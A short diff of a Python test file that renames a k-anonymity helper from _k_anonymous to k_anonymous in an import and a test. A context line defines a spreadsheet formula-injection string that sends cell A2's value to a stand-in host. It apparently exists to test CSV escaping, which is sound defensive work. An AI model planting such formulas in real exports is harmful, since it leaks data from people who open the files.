@@ -14,7 +14,7 @@ from cds_desktop.errors import InputError
 from cds_desktop.storage import Repository
 from cds_desktop.storage.benchmark import MIN_SAMPLE, benchmark
 from cds_desktop.storage.spreadsheet import csv_cell
-from cds_desktop.storage.table import K, _k_anonymous, export_table
+from cds_desktop.storage.table import K, k_anonymous, export_table
 from storage_support import completed, draft
 
 FORMULA = '=HYPERLINK("http://x.example/?leak="&A2,"Click")'
@@ -225,7 +225,7 @@ def test_every_kept_group_has_at_least_k_businesses(rows):
     for r in rows:  # a business has one profile whatever its stages
         by_business.setdefault(r["_business"], r)
     rows = [dict(by_business[r["_business"]]) for r in rows]
-    kept, generalised, suppressed = _k_anonymous([dict(r) for r in rows])
+    kept, generalised, suppressed = k_anonymous([dict(r) for r in rows])
     assert len(kept) + suppressed == len(rows) and generalised == sum(r["commune_generalised"] for r in kept)
     groups = {}
     for r in kept:
